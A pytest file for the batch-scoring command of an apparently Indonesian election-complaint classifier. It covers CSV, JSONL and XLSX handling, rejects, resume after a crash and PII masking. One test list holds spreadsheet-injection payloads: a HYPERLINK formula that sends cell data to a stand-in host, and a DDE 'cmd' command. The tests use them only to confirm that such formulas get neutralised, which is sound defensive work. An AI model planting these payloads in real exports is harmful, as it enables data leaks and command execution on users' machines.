"""Batch scoring: formats, bad input, row accounting, resume, PII (on a tiny TF-IDF model)."""

import csv
import json

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netralitas_nlp import score, train
from netralitas_nlp.config import load_config
from netralitas_nlp.labels import LABELS
from netralitas_nlp.scoring import service


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory):
    from conftest import TINY, write_jsonl

    d = tmp_path_factory.mktemp("score")
    rows = [{"text": t, "labels": labs} for t, labs in TINY]
    p = write_jsonl(d / "all.jsonl", rows)
    cfg = load_config(None, ["model=tfidf", f"train=[{p}]", f"dev={p}", f"test={p}", f"output={d / 'm'}", "tfidf_min_df=1"])
    return str(train.train(cfg))


def run(model_dir, inp, out, *extra):
    return score.main(["--model", model_dir, str(inp), "-o", str(out), *extra])


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_keeps_columns_order_and_adds_scores(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text(
        'no,uraian,unit\n7,"Kades bagi amplop buat coblos caleg",Desa A\n8,,Desa B\n9,"Jalan desa rusak parah",Desa C\n', encoding="utf-8"
    )
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    rows = read_csv(out)
    assert [r["no"] for r in rows] == ["7", "8", "9"]
    assert list(rows[0])[:3] == ["no", "uraian", "unit"]
    assert set(rows[0]) >= {f"p_{lab}" for lab in LABELS} | {"labels", "priority", "evidence", "status"}
    assert rows[0]["status"] == "ok" and "money_politics" in rows[0]["labels"].split(";")
    assert rows[1]["status"] == "empty text" and rows[1]["p_intimidation"] == ""
    assert 0 <= float(rows[2]["priority"]) <= 100
    rejects = read_csv(tmp_path / "out.rejects.csv")
    assert rejects == [{"row": "2", "id": "8", "reason": "empty text"}]
    assert not (tmp_path / "out.csv.partial.jsonl").exists()


def test_jsonl_and_xlsx_round_trip(tmp_path, model_dir):
    inp = tmp_path / "in.jsonl"
    inp.write_text(
        json.dumps({"id": "a", "isi": "Camat ancam mutasi staf\x0b kalau tidak pilih no 3\x00", "anon": True})
        + "\n"
        + json.dumps({"id": "b", "isi": 12345})
        + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out) == 0
    a, b = [json.loads(x) for x in out.read_text().splitlines()]
    assert a["anon"] is True and a["status"] == "ok" and b["status"] == "not text (int)"
    xlsx = tmp_path / "out.xlsx"
    assert run(model_dir, inp, xlsx) == 0
    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["id", "isi", "anon"] and header[-1] == "status" and sheet.max_row == 3
    assert sheet.cell(2, 2).value == "Camat ancam mutasi staf kalau tidak pilih no 3"  # control characters Excel refuses


def test_excel_input_with_sheet_and_control_characters(tmp_path, model_dir):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Rekap"
    ws.append(["ID Laporan", "Isi Laporan"])
    ws.append(["L-1", "Lurah bagi sembako dari timses \u00e9 \u00ff"])
    other = wb.create_sheet("Aduan")
    other.append(["id", "komentar"])
    other.append(["x", "PNS sebar hoaks surat suara sudah dicoblos"])
    wb.save(tmp_path / "in.xlsx")
    out = tmp_path / "out.csv"
    assert run(model_dir, tmp_path / "in.xlsx", out, "--sheet", "Aduan") == 0
    assert read_csv(out)[0]["komentar"].startswith("PNS sebar")
    assert run(model_dir, tmp_path / "in.xlsx", out) == 0  # first sheet; "Isi Laporan" detected
    assert read_csv(out)[0]["status"] == "ok"


@pytest.mark.parametrize(
    "content,reason",
    [
        ("", "empty file"),
        ("id,text\n", "no data rows"),
        ("id,judul\n1,halo\n", "no text column found"),
        ('id,text\n1,"kutip rusak\n2,lain\n', "broken CSV"),
    ],
)
def test_bad_files_give_clear_errors(tmp_path, model_dir, capsys, content, reason):
    inp = tmp_path / "bad.csv"
    inp.write_text(content, encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "o.csv", "--strict") == 2
    err = capsys.readouterr().err
    assert reason in err and "bad.csv" in err


def test_wrong_encoding_and_huge_cell(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_bytes("text\nPak Camat bilang “pilih nomor 2”\n".encode("cp1252") + b"\n" + ("x" * 1_000_001).encode() + b"\n")
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    a, b = read_csv(out)
    assert a["text"] == "Pak Camat bilang “pilih nomor 2”" and a["status"] == "ok"
    assert b["status"].startswith("text longer than 100000 characters")


def test_mask_pii_in_text_and_evidence(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text('text\n"Kades bagi amplop buat coblos caleg, hub 081234567890 atau budi@contoh.id NIK 3273012505800001"\n')
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out, "--mask-pii") == 0
    row = read_csv(out)[0]
    assert "081234567890" not in row["text"] and "[TELEPON]" in row["text"] and "[EMAIL]" in row["text"] and "[NIK]" in row["text"]
    assert "0812" not in row["evidence"]


def test_resume_after_crash_loses_and_repeats_nothing(tmp_path, model_dir, monkeypatch):
    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n" + "".join(f"{i},teks nomor {i} kades bagi amplop\n" for i in range(25)), encoding="utf-8")
    out = tmp_path / "out.csv"
    real = service.score_chunk
    calls = {"n": 0}

    def crashing(*a, **k):
        calls["n"] += 1
        if calls["n"] == 3:
            raise KeyboardInterrupt("simulated crash")
        return real(*a, **k)

    monkeypatch.setattr(service, "score_chunk", crashing)
    with pytest.raises(KeyboardInterrupt):
        run(model_dir, inp, out, "--chunk-size", "10")
    assert not out.exists() and (tmp_path / "out.csv.progress.json").exists()
    # Simulate a torn write after the last checkpoint: resume must cut it off.
    with open(tmp_path / "out.csv.partial.jsonl", "a") as f:
        f.write('{"row": 999, "fields": {"half')
    monkeypatch.setattr(service, "score_chunk", real)
    assert run(model_dir, inp, out, "--chunk-size", "10", "--resume") == 0
    assert [r["id"] for r in read_csv(out)] == [str(i) for i in range(25)]


@given(
    st.lists(
        st.one_of(st.text(max_size=30), st.just(""), st.just("   "), st.sampled_from(["kades bagi amplop", "camat ancam mutasi"])),
        min_size=1,
        max_size=25,
    )
)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_row_accounting(tmp_path, model_dir, texts):
    inp = tmp_path / "in.jsonl"
    inp.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in enumerate(texts)), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out, "--chunk-size", "7") == 0
    rows = [json.loads(x) for x in out.read_text(encoding="utf-8").split("\n") if x]  # not splitlines: U+0085 is text
    assert [r["id"] for r in rows] == list(range(len(texts)))
    ok = sum(r["status"] == "ok" for r in rows)
    with open(tmp_path / "out.rejects.csv", encoding="utf-8-sig") as f:
        rejected = len(f.read().splitlines()) - 1
    assert ok + rejected == len(texts)
    assert all((r["status"] == "ok") == bool(str(t).strip()) for r, t in zip(rows, texts))


def test_evidence_modes(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text('text\n"Kades bagi amplop buat coblos caleg pas serangan fajar"\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out, "--evidence", "none") == 0
    assert read_csv(out)[0]["evidence"] == ""
    assert run(model_dir, inp, out, "--evidence", "rules") == 0
    assert "serangan fajar" in read_csv(out)[0]["evidence"]  # a lexicon phrase
    assert run(model_dir, inp, out) == 0  # auto on a TF-IDF model: its own weights
    assert read_csv(out)[0]["evidence"].startswith("money_politics: ")


def test_score_batch_is_the_pure_core(model_dir):
    from netralitas_nlp.models import load_predictor
    from netralitas_nlp.scoring import Policy, score_batch

    predictor = load_predictor(model_dir, "auto")
    texts = ["Kades bagi amplop buat coblos caleg, hub 081234567890", "Jalan desa rusak parah"]
    recs = score_batch(predictor, texts, Policy(mask_pii=True))
    assert [list(r) for r in recs] == [[f"p_{lab}" for lab in LABELS] + ["labels", "priority", "evidence"]] * 2
    assert "money_politics" in recs[0]["labels"].split(";") and "0812" not in recs[0]["evidence"]
    assert score_batch(predictor, [], Policy()) == []


FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path, model_dir):
    inp = tmp_path / "in.jsonl"
    inp.write_text("".join(json.dumps({"id": f, "text": f + " kades bagi amplop", "n": "-5"}) + "\n" for f in FORMULAS), encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "out.csv") == 0
    rows = read_csv(tmp_path / "out.csv")
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] and rows[0]["text"].startswith("'=")
    assert rows[0]["n"] == "-5"  # a plain number is not a formula and keeps its value
    assert run(model_dir, inp, tmp_path / "out.xlsx") == 0
    import zipfile

    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    values = [c.value for c in openpyxl.load_workbook(tmp_path / "out.xlsx").active["A"]][1:]
    assert values[:6] == FORMULAS[:6]  # stored as text, unchanged (XML turns the lone CR into LF)
    assert run(model_dir, inp, tmp_path / "raw.csv", "--allow-formulas") == 0
    assert read_csv(tmp_path / "raw.csv")[0]["id"] == "=1+1"


def _crash_after_first_chunk(monkeypatch, model_dir, inp, out, *extra):
    real = service.score_chunk
    calls = {"n": 0}

    def crashing(*a, **k):
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt("simulated crash")
        return real(*a, **k)

    monkeypatch.setattr(service, "score_chunk", crashing)
    with pytest.raises(KeyboardInterrupt):
        run(model_dir, inp, out, "--chunk-size", "5", *extra)
    monkeypatch.setattr(service, "score_chunk", real)


def _rows(n, order=1):
    return "id,text,phone\n" + "".join(f"{i},teks {i} kades bagi amplop hub 0812345678{i % 10}{i % 10},x\n" for i in range(n)[::order])


@pytest.mark.parametrize(
    "change,extra,expect",
    [
        ("reorder", (), "input"),  # same size, other order
        ("edit", (), "input"),  # one letter, same size
        ("none", ("--mask-pii",), "mask_pii"),
        ("none", ("--text-column", "phone"), "text_column"),
        ("none", ("--evidence", "none"), "evidence"),
        ("model", (), "model"),
    ],
)
def test_resume_refuses_a_changed_run(tmp_path, model_dir, monkeypatch, capsys, change, extra, expect):
    inp, out = tmp_path / "in.csv", tmp_path / "out.csv"
    inp.write_text(_rows(12), encoding="utf-8")
    _crash_after_first_chunk(monkeypatch, model_dir, inp, out)
    model = model_dir
    if change == "reorder":
        inp.write_text(_rows(12, order=-1), encoding="utf-8")
    elif change == "edit":
        inp.write_text(_rows(12).replace("teks 3", "teks 4"), encoding="utf-8")
    elif change == "model":
        import shutil

        model = str(tmp_path / "other-model")
        shutil.copytree(model_dir, model)
        (tmp_path / "other-model" / "note.txt").write_text("retrained")
    capsys.readouterr()
    assert score.main(["--model", model, str(inp), "-o", str(out), "--chunk-size", "5", "--resume", *extra]) == 2
    err = capsys.readouterr().err
    assert "cannot resume" in err and expect in err and "Traceback" not in err
    assert not out.exists()


def test_input_columns_named_like_output_columns_are_kept(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text(
        "id,text,status,labels,priority,evidence,p_hoax_hate,nn_status\n"
        '1,"kades bagi amplop",Selesai,money_politics,Tinggi,foto,0.9,x\n2,,Baru,,Rendah,,,y\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    a, b = read_csv(out)
    assert (a["status"], a["labels"], a["priority"], a["evidence"], a["p_hoax_hate"], a["nn_status"]) == (
        "Selesai",
        "money_politics",
        "Tinggi",
        "foto",
        "0.9",
        "x",
    )
    assert a["nn_nn_status"] == "ok" and "money_politics" in a["nn_labels"] and float(a["nn_priority"]) > 0
    assert a["nn_p_hoax_hate"] != "0.9" and a["p_money_politics"] != ""  # no collision, no prefix
    assert b["status"] == "Baru" and b["nn_nn_status"] == "empty text"
    assert read_csv(tmp_path / "out.rejects.csv") == [{"row": "2", "id": "2", "reason": "empty text"}]


@pytest.mark.parametrize("how", ["same", "dotdot", "rejects", "xlsx"])
def test_output_or_rejects_equal_to_input_is_refused(tmp_path, model_dir, capsys, how):
    (tmp_path / "sub").mkdir()
    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n1,kades bagi amplop\n", encoding="utf-8")
    before = inp.read_bytes()
    extra = []
    if how == "xlsx":
        wb = openpyxl.Workbook()
        wb.active.append(["id", "text"])
        wb.active.append([1, "kades bagi amplop"])
        wb.save(tmp_path / "in.xlsx")
        inp = tmp_path / "in.xlsx"
        before = inp.read_bytes()
        out = inp
    else:
        out = {"same": inp, "dotdot": tmp_path / "sub" / ".." / "in.csv", "rejects": tmp_path / "out.csv"}[how]
    if how == "rejects":
        extra = ["--rejects", str(tmp_path / "sub" / ".." / "in.csv")]
    assert run(model_dir, inp, out, *extra) == 2
    err = capsys.readouterr().err
    assert "is the input itself" in err and inp.read_bytes() == before


def test_bad_lines_become_rejects_and_the_run_goes_on(tmp_path, model_dir, capsys):
    inp = tmp_path / "in.csv"
    good = [f"{i},kades bagi amplop nomor {i}" for i in range(1, 9)]
    lines = good[:2] + ["90,satu,dua,tiga"] + good[2:4] + ["91,ada\rCR di tengah"] + good[4:] + ['92,"kutip tak ditutup']
    inp.write_bytes(("id,text\n" + "\n".join(lines) + "\n").encode())
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    rows = read_csv(out)
    assert [r["id"] for r in rows if r["status"] == "ok"] == [str(i) for i in range(1, 9)]
    reasons = {r["row"]: r["reason"] for r in read_csv(tmp_path / "out.rejects.csv")}
    assert len(reasons) == 3 and all(v.startswith("bad record: ") for v in reasons.values())
    assert "4 cells but the header has 2" in reasons["3"] and "line 4" in reasons["3"]
    assert "rejected {'bad record': 3}" in capsys.readouterr().err
    assert run(model_dir, inp, tmp_path / "strict.csv", "--strict") == 2


def test_truncated_jsonl_line_is_a_reject(tmp_path, model_dir):
    inp = tmp_path / "in.jsonl"
    inp.write_text('{"id": 1, "text": "kades bagi amplop"}\n{"id": 2, "text": "kades b\n[1, 2]\n{"id": 3, "text": "camat ancam"}\n')
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out) == 0
    rows = [json.loads(x) for x in out.read_text().splitlines()]
    assert [r.get("id") for r in rows] == [1, None, None, 3]
    assert [r["row"] for r in read_csv(tmp_path / "out.rejects.csv")] == ["2", "3"]


def test_xlsx_formula_without_saved_value_is_reported(tmp_path, model_dir):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "text"])
    ws.append([1, "kades bagi amplop"])
    ws.append([2, '=CONCAT("kades ","bagi amplop")'])  # openpyxl saves no cached value, like most programs
    ws.append(["=1+2", '=CONCAT("a","b")'])
    wb.save(tmp_path / "in.xlsx")
    out = tmp_path / "out.csv"
    assert run(model_dir, tmp_path / "in.xlsx", out) == 0
    assert len(read_csv(out)) == 3
    rejects = read_csv(tmp_path / "out.rejects.csv")
    assert [r["row"] for r in rejects] == ["2", "3"] and "formula without a saved value in ['text']" in rejects[0]["reason"]


def test_merged_records_are_reported(tmp_path, model_dir, capsys):
    inp = tmp_path / "in.csv"
    inp.write_text('id,text\n1,"kades bagi amplop\n2,camat ancam\n3,lurah bagi sembako"\n4,jalan rusak\n', encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "out.csv") == 0
    assert "row 1 (line 2) may hold 3 merged records: lines [3, 4]" in capsys.readouterr().err


def test_cp1252_semicolon_export_with_late_non_ascii(tmp_path, model_dir):
    rows = [f"{i};2024-02-{i % 28 + 1:02d};Kades bagi amplop, sembako, dan kaos ke warga RT {i};WA" for i in range(3000)]
    rows[2500] = "2500;2024-02-01;Pak Camat bilang “pilih nomor 2”, café;WA"  # past the 64 KiB sniff window
    inp = tmp_path / "export.csv"
    inp.write_bytes(("no_laporan;tanggal;isi_laporan;kanal\r\n" + "\r\n".join(rows) + "\r\n").encode("cp1252"))
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out, "--chunk-size", "1000") == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        got = list(csv.DictReader(f, delimiter=";"))
    assert len(got) == 3000 and all(r["status"] == "ok" for r in got)
    assert got[2500]["isi_laporan"] == "Pak Camat bilang “pilih nomor 2”, café"


def test_delimiter_encoding_and_header_row_options(tmp_path, model_dir):
    inp = tmp_path / "in.txt"
    inp.write_bytes("Rekap aduan Februari\nid|text\n1|kades bagi amplop, café\n".encode("cp1252"))
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out, "--header-row", "2", "--delimiter", "|", "--encoding", "cp1252") == 0
    [row] = [json.loads(x) for x in out.read_text().splitlines()]
    assert row["text"] == "kades bagi amplop, café" and row["status"] == "ok"
    wb = openpyxl.Workbook()
    wb.active.append(["Rekap aduan Februari"])
    wb.active.append(["id", "isi"])
    wb.active.append([1, "kades bagi amplop"])
    wb.save(tmp_path / "in.xlsx")
    assert run(model_dir, tmp_path / "in.xlsx", out, "--header-row", "2") == 0
    assert json.loads(out.read_text())["isi"] == "kades bagi amplop"


@pytest.mark.parametrize("sep", [";", "|", "\t"])
def test_delimiter_is_read_from_the_header_line(tmp_path, model_dir, sep):
    # Quoted words between commas made csv.Sniffer pick "," for these.
    text = 'Warga bilang, "amplop", dari kades'
    inp = tmp_path / "in.csv"
    inp.write_text(sep.join(["id", "text", "unit"]) + "\n" + sep.join(["1", text, "A"]) + "\n", encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "out.jsonl") == 0
    assert json.loads((tmp_path / "out.jsonl").read_text())["text"] == text


def test_os_errors_and_bad_options_give_one_line(tmp_path, model_dir, capsys, monkeypatch):
    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n1,kades bagi amplop\n", encoding="utf-8")
    (tmp_path / "folder.csv").mkdir()
    cases = {"folder.csv": "is a folder", "nope/out.csv": "does not exist", "out.parquet": "unknown output type"}
    for name, reason in cases.items():
        assert run(model_dir, inp, tmp_path / name) == 2
        err = capsys.readouterr().err
        assert reason in err and name.split("/")[0] in err and "Traceback" not in err
    from netralitas_nlp.scoring import writers

    def full(*a, **k):
        raise OSError(28, "No space left on device", str(tmp_path / "out.csv.tmp"))

    monkeypatch.setattr(service, "write_output", full)
    assert run(model_dir, inp, tmp_path / "out.csv") == 2
    assert "out.csv.tmp: No space left on device" in capsys.readouterr().err
    assert writers.OUTPUT_SUFFIXES
    for opt in (["--chunk-size", "0"], ["--chunk-size", "-3"], ["--max-chars", "0"], ["--delimiter", ";;"]):
        with pytest.raises(SystemExit) as e:
            run(model_dir, inp, tmp_path / "o.csv", *opt)
        assert e.value.code == 2


def fuzz_export(rng, n_rows: int) -> tuple[bytes, str, set[str]]:
    """A random complaint export: delimiter, encoding, formula-like and comma-rich texts, one corrupted line.

    Returns the bytes, the file suffix and the ids of the rows that are well-formed.
    """
    import random

    assert isinstance(rng, random.Random)
    sep = rng.choice([",", ";", "|", "\t"])
    enc = rng.choice(["utf-8", "utf-8-sig", "cp1252"])
    words = ["kades", "bagi", "amplop,", "camat", "ancam", "“pilih", "nomor", "2”", "café", "=1+1", "@x", "-", '"ya"']
    lines, good = [sep.join(["id", "isi_laporan", "status"])], set()
    bad_at = rng.randrange(n_rows)
    for i in range(n_rows):
        text = " ".join(rng.choice(words) for _ in range(rng.randint(1, 8)))
        if i == bad_at:
            lines.append(rng.choice([f"{i}{sep}x{sep}y{sep}z{sep}w", f"{i}{sep}lone\rcr{sep}s", f'{i}{sep}"open quote{sep}s']))
            continue
        lines.append(sep.join([str(i), '"' + text.replace('"', '""') + '"', rng.choice(["Baru", "Selesai"])]))
        good.add(str(i))
    return ("\n".join(lines) + "\n").encode(enc, errors="replace"), ".tsv" if sep == "\t" else ".csv", good


@pytest.mark.parametrize("seed", range(12))
def test_fuzzed_exports_never_stop_or_lose_rows(tmp_path, model_dir, capsys, seed):
    import random

    data, suffix, good = fuzz_export(random.Random(seed), 30)
    inp = tmp_path / f"in{suffix}"
    inp.write_bytes(data)
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out, "--chunk-size", "7") == 0
    assert "Traceback" not in capsys.readouterr().err
    rows = [json.loads(x) for x in out.read_text(encoding="utf-8").split("\n") if x]
    assert good <= {r.get("id") for r in rows if r["nn_status"] == "ok"}  # every good row scored; input status kept
    assert {r["status"] for r in rows if "status" in r} <= {"Baru", "Selesai", "s", "y"}  # "y": a bad line's own cell
    rejected = read_csv(tmp_path / "out.rejects.csv")
    assert sum(r["nn_status"] == "ok" for r in rows) + len(rejected) == len(rows)


def test_xlsx_output_keeps_types_and_reports_cut_cells(tmp_path, model_dir, capsys):
    import datetime

    book = openpyxl.Workbook()
    book.active.append(["no", "tanggal", "nilai", "hp", "text"])
    book.active.append([7, datetime.datetime(2024, 2, 14, 9, 30), 12.5, "0812345", "kades bagi amplop"])
    book.save(tmp_path / "in.xlsx")
    assert run(model_dir, tmp_path / "in.xlsx", tmp_path / "out.xlsx") == 0
    row = [c.value for c in openpyxl.load_workbook(tmp_path / "out.xlsx").active[2]][:5]
    assert row == [7, datetime.datetime(2024, 2, 14, 9, 30), 12.5, "0812345", "kades bagi amplop"]
    long = "kades bagi amplop " + "y" * 40_000
    (tmp_path / "long.jsonl").write_text(json.dumps({"id": 1, "text": long}) + "\n", encoding="utf-8")
    capsys.readouterr()
    assert run(model_dir, tmp_path / "long.jsonl", tmp_path / "long.xlsx") == 0
    cell = openpyxl.load_workbook(tmp_path / "long.xlsx").active["B2"].value
    assert len(cell) == 32_767 and cell.endswith("[CUT: Excel cell limit; full text in a .csv/.jsonl output]")
    assert "1 Excel cell(s) longer than 32,767 characters were cut" in capsys.readouterr().err


def test_progress_has_a_total_and_stays_quiet_in_short_runs(tmp_path, model_dir, capsys, monkeypatch):
    from netralitas_nlp.scoring.reading import count_rows

    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n1,kades bagi amplop\n2,camat ancam staf\n3,jalan rusak\n", encoding="utf-8")
    (tmp_path / "in.jsonl").write_text('{"text": "a"}\n{"text": "b"}', encoding="utf-8")
    book = openpyxl.Workbook()
    for r in (["text"], ["a"], ["b"]):
        book.active.append(r)
    book.save(tmp_path / "in.xlsx")
    assert (count_rows(inp), count_rows(tmp_path / "in.jsonl"), count_rows(tmp_path / "in.xlsx")) == (3, 2, 2)
    totals = []
    real = service.tqdm
    monkeypatch.setattr(service, "tqdm", lambda **k: totals.append(k["total"]) or real(**k))
    capsys.readouterr()
    assert run(model_dir, inp, tmp_path / "out.csv") == 0
    assert totals == [3] and "score:" not in capsys.readouterr().err


def test_help_explains_every_option_with_its_default():
    from netralitas_nlp.scoring.cli import build_parser

    parser = build_parser()
    text = parser.format_help()
    for action in parser._actions:
        assert action.help, action.dest
        if (
            action.option_strings
            and not isinstance(action.default, bool)
            and action.default not in (None, "==SUPPRESS==")
            and action.dest != "help"
        ):
            assert f"(default: {action.default})" in text, action.dest


def test_model_trained_with_other_library_versions_warns(tmp_path, model_dir, capsys):
    import shutil

    model = tmp_path / "m"
    shutil.copytree(model_dir, model)
    versions = json.loads((model / "versions.json").read_text())
    (model / "versions.json").write_text(json.dumps({**versions, "scikit-learn": "0.1.0", "torch": "0.0.1"}))
    inp = tmp_path / "in.csv"
    inp.write_text("text\nkades bagi amplop\n", encoding="utf-8")
    assert run(str(model), inp, tmp_path / "out.csv") == 0
    err = capsys.readouterr().err
    warnings = [line for line in err.splitlines() if "trained with" in line]
    assert len(warnings) == 1 and "scikit-learn 0.1.0 (installed: " in warnings[0] and "torch 0.0.1" in warnings[0]
    assert run(model_dir, inp, tmp_path / "out2.csv") == 0
    assert "trained with" not in capsys.readouterr().err
